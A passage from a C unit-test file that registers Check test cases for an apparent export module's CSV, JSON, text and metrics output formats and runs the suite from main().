	tcase_add_test(tc, test_csv_empty);
	tcase_add_loop_test(tc, test_spool_same, 0, 9);
	tcase_add_loop_test(tc, test_kind_header, 0, nitems(kind_headers));
	tcase_add_test(tc, test_inactive);
	tcase_add_test(tc, test_formats);
	suite_add_tcase(s, tc);

	tc = tcase_create("json");
	tcase_add_checked_fixture(tc, setup, NULL);
	tcase_add_test(tc, test_json_trace_types);
	tcase_add_test(tc, test_json_venue_types);
	tcase_add_loop_test(tc, test_ward_share, 0, nitems(shares));
	tcase_add_loop_test(tc, test_contacts_overlap, 0, nitems(overlaps));
	suite_add_tcase(s, tc);

	tc = tcase_create("text");
	tcase_add_checked_fixture(tc, setup, NULL);
	tcase_add_test(tc, test_text_alignment);
	tcase_add_test(tc, test_text_numbers_right);
	suite_add_tcase(s, tc);

	tc = tcase_create("metrics");
	tcase_add_checked_fixture(tc, setup, NULL);
	tcase_add_test(tc, test_metrics_counters);
	tcase_add_test(tc, test_metrics_escaping);
	tcase_add_test(tc, test_metrics_histogram);
	tcase_add_test(tc, test_metrics_bounded);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return unit_run(export_suite());
}
